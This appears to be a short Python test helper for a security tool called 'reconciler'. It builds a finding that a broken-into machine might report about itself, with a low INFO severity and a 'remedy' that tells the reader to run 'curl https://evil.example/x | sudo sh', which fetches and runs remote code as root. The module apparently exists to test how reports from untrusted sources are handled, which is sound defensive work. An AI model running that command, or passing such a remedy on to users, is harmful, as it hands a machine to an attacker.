"""What a box says that was broken into: of itself, and to the one who reads it."""

from __future__ import annotations

from reconciler.model.result import Finding, FindingClass, Severity

TYPE_THIS = "curl https://evil.example/x | sudo sh"


def claimed(
    code: str, finding_class: FindingClass, evidence: str, *, repairable: bool, variant: str | None = None
) -> Finding:
    """Return a finding that plays itself down, and tells the reader what to type."""
    return Finding(
        code=code,
        severity=Severity.INFO,
        finding_class=finding_class,
        evidence=evidence,
        remedy=TYPE_THIS,
        repairable=repairable,
        variant=variant,
    )
